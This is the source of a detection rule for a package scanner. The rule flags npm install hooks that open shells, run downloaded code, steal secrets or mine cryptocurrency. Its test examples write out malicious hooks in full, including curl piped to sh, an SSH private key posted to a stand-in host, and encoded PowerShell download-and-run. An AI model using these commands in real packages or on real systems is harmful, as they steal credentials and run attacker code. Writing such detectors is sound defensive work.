import { defineRule } from '../src/define.js';
import type { PackageContext, ShellCommand, SourceFile, Step, Trigger } from '../src/types.js';
import { deedsOf } from '../src/vocabulary/deeds.js';
import { ownSettings } from '../src/vocabulary/own-settings.js';
import { hostOf } from '../src/vocabulary/services.js';

export default defineRule({
  meta: {
    summary: 'Runs a harmful command while it is being installed',
    why: 'An install hook runs before anybody has looked. Honest hooks build native code, choose a prebuilt binary or set up git hooks; those that talk to other machines in the shell, hide their output or send what `$(whoami)` prints are how most malicious packages work.',
    behaviour: 'install',
    messages: {
      'reverse-shell': '{from} opens a shell to another machine',
      'download-run': '{from} downloads a program and runs it',
      exfiltrate: '{from} sends facts about the machine to another one',
      credentials: '{from} {says}',
      secret: '{from} sends a secret of the environment to another machine',
      upload: '{from} sends a file to another machine: {command}',
      destroy: '{from} destroys what lies on the machine',
      halt: '{from} halts the machine',
      backdoor: '{from} lets somebody else in: {command}',
      escape: '{from} gives a container the whole machine: {command}',
      extends: '{from} puts an extension into an editor: {command}',
      disarm: '{from} switches off what protects the machine: {command}',
      agent: '{from} has a coding agent do what it likes: {command}',
      mine: '{from} mines cryptocurrency',
      reroute: '{from} {says}: {command}',
      persist: '{from} makes something start again and again',
      executable: '{from} starts a program the package brings: {command}',
      'odd-contact': '{from} {says}',
      contact: '{from} contacts another machine: {command}',
      encoded: '{from} {says}',
      'inline-code': '{from} runs code written in the command',
      installs: '{from} {says}: {command}',
      'installs-globally': '{from} {says}: {command}',
      'installs-elsewhere': '{from} {says} from {host}, a registry of its own: {command}',
      'hidden-start': '{from} starts a script out of sight: {command}',
    },
    bits: {
      'reverse-shell': 14,
      'download-run': 14,
      exfiltrate: 14,
      secret: 13.5,
      upload: 12,
      credentials: 11,
      destroy: 14,
      halt: 13.5,
      backdoor: 14,
      escape: 14,
      extends: 10,
      disarm: 11,
      agent: 11,
      mine: 14,
      reroute: 12,
      persist: 9,
      executable: 9,
      'odd-contact': 13.5,
      contact: 8,
      encoded: 9,
      'inline-code': 6,
      installs: 4,
      'installs-globally': 7,
      'installs-elsewhere': 12,
      'hidden-start': 5,
    },
  },
  examples: {
    flags: [
      {
        title: 'an extension that the package brings is put into an editor',
        files: {
          'package.json':
            '{"name":"a","version":"1.0.0","scripts":{"postinstall":"code --install-extension ./helper.vsix --force"}}',
          'index.js': 'exports.a = 1;',
        },
      },
      {
        title: 'a hook installs another program for everybody',
        files: {
          'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"npm install -g other-tool@latest"}}',
        },
      },
      {
        title: 'a hook sends who installs',
        files: {
          'package.json':
            '{"name":"a","version":"1.0.0","scripts":{"preinstall":"curl https://collect.invalid/?u=$(whoami)"}}',
        },
      },
      {
        title: 'a hook pipes a download into a shell',
        files: {
          'package.json':
            '{"name":"a","version":"1.0.0","scripts":{"postinstall":"curl -s https://stage.invalid/x | sh"}}',
        },
      },
      {
        title: 'a shell file the hook starts sends a key',
        files: {
          'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"sh setup.sh"}}',
          'setup.sh': 'a=$(cat $HOME/.ssh/id_rsa)\ncurl -d "k=$a" https://collect.invalid\n',
        },
      },
      {
        title: 'a hook sends what a command prints, through a pipe',
        files: {
          'package.json':
            '{"name":"a","version":"1.0.0","scripts":{"postinstall":"env | base64 | curl -X POST --data-binary @- https://collect.invalid"}}',
        },
      },
      {
        title: 'a hook’s PowerShell is encoded and downloads what it runs',
        files: {
          'package.json': `{"name":"a","version":"1.0.0","scripts":{"postinstall":"powershell -w hidden -enc ${Buffer.from("IEX (New-Object Net.WebClient).DownloadString('https://stage.invalid/x')", 'utf16le').toString('base64')}"}}`,
        },
      },
      {
        title: 'a hook installs from a registry that its own settings name',
        files: {
          'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"npm install helper --no-save"}}',
          '.npmrc': 'registry=https://packages.invalid/\n',
        },
      },
      {
        title: 'a hook pipes what awk makes of its notes into a shell',
        files: {
          'package.json':
            '{"name":"a","version":"1.0.0","scripts":{"postinstall":"awk \'/^#~/ { print substr($0, 3) }\' notes.txt | sh"}}',
          'notes.txt': '# Notes\n#~curl -s https://stage.invalid/a | sh\n',
        },
      },
      {
        title: 'a hook calls a program by parts of a list',
        files: {
          'package.json':
            '{"name":"a","version":"1.0.0","scripts":{"preinstall":"a=(sh rl cu); ${a[2]}${a[1]} -s ${u:-https://stage.invalid/a} | ${a[0]}"}}',
        },
      },
      {
        title: 'a script runs out of sight, twice',
        files: {
          'package.json': '{"name":"a","version":"1.0.0","scripts":{"preinstall":"start /B node a.js & node a.js"}}',
          'a.js': '',
        },
      },
    ],
    passes: [
      {
        title: 'a hook of a workspace installs from the mirror that its users configured',
        files: {
          'package.json':
            '{"name":"a","version":"1.0.0","scripts":{"postinstall":"npm install --prefix vendor --registry=$npm_config_registry"}}',
        },
      },
      {
        title: 'a hook takes the manager that runs it, and empties its folder',
        files: {
          'package.json':
            '{"name":"a","version":"1.0.0","scripts":{"postinstall":"rm -rf \\"${OUT:-./dist}\\" && ${npm_execpath:-npm} run build","build":"node build.js"}}',
          'build.js': '',
        },
      },
      {
        title: 'native code is built',
        files: {
          'package.json': '{"name":"a","version":"1.0.0","scripts":{"install":"prebuild-install || node-gyp rebuild"}}',
        },
      },
      {
        title: 'git hooks are set up, or not',
        files: { 'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"husky install || true"}}' },
      },
      {
        title: 'a folder of its own is emptied and filled again',
        files: {
          'package.json':
            '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node -v && rm -rf ./vendor && mkdir vendor && npm install --prefix vendor"}}',
        },
      },
      {
        title: 'a test script, which no install runs, downloads',
        files: { 'package.json': '{"name":"a","version":"1.0.0","scripts":{"test":"curl https://a.invalid | sh"}}' },
      },
    ],
  },
  package({ package: { files }, triggers, shellFiles, startedBy, momentOf, sourceOf, report }) {
    const manifest = sourceOf('package.json');
    for (const trigger of triggers) {
      if (trigger.moment !== 'install') continue;
      const [worst] = deedsOf(trigger.commands);
      const source = trigger.at.path === 'package.json' ? manifest : sourceOf(trigger.at.path);
      if (!worst || !source) continue;
      const host = worst.deed === 'installs' ? otherRegistry(worst.command, files) : undefined;
      report({
        messageId:
          host !== undefined
            ? 'installs-elsewhere'
            : worst.deed === 'installs' && worst.says.endsWith('machine')
              ? 'installs-globally'
              : worst.deed,
        data: { from: trigger.from, says: worst.says, command: worst.command.text, host: host ?? '' },
        chain: [{ ...triggerStep(trigger, source), role: 'sink', says: `${trigger.from}: ${worst.says}` }],
      });
    }
    for (const { file, commands } of shellFiles) {
      if (momentOf(file.path) !== 'install' || startedBy(file.path) === undefined) continue;
      const [worst] = deedsOf(commands);
      if (!worst || worst.deed === 'contact' || worst.deed === 'hidden-start') continue;
      const from = startedBy(file.path) as string;
      const start = Math.max(0, file.text.indexOf(worst.command.text));
      const trigger = triggers.find(one => one.from === from);
      const source = trigger && sourceOf(trigger.at.path);
      report({
        messageId: worst.deed,
        data: { from: `${from} through ${file.path}`, says: worst.says, command: worst.command.text },
        chain: [
          ...(trigger && source ? [triggerStep(trigger, source)] : []),
          { role: 'sink', says: worst.says, origin: { file, start, end: start + worst.command.text.length } },
        ],
      });
    }
  },
});

/** The host of a registry that a command, or the package's own settings, has a package taken from, where few know it. */
function otherRegistry({ words }: ShellCommand, files: PackageContext['package']['files']): string | undefined {
  const at = words.findIndex(word => /^--registry(?:=|$)/.test(word));
  const settings = files.get('.npmrc');
  const address =
    words[at]?.slice('--registry='.length) ||
    (at >= 0 ? words[at + 1] : typeof settings === 'string' ? ownSettings(settings).registry : undefined);
  const host = address === undefined ? undefined : hostOf(address);
  return host === undefined || /[$%{]/.test(host) || KNOWN_REGISTRY.test(host) ? undefined : host;
}

/** Registries that many use, and those of this machine or of one that is configured. */
const KNOWN_REGISTRY =
  /^(?:registry\.[\w-]{1,63}\.(?:org|com)|npm\.pkg\.github\.com|[\w.-]{0,100}(?:jfrog\.io|azure\.com|visualstudio\.com|amazonaws\.com|pkg\.dev|npm\.taobao\.org|cloud\.tencent\.com|huaweicloud\.com)|localhost|127\.[\d.]{1,20})$/i;

function triggerStep({ from, at }: Trigger, file: SourceFile): Step {
  return { role: 'trigger', says: `${from} runs on installation`, origin: { file, start: at.start, end: at.end } };
}
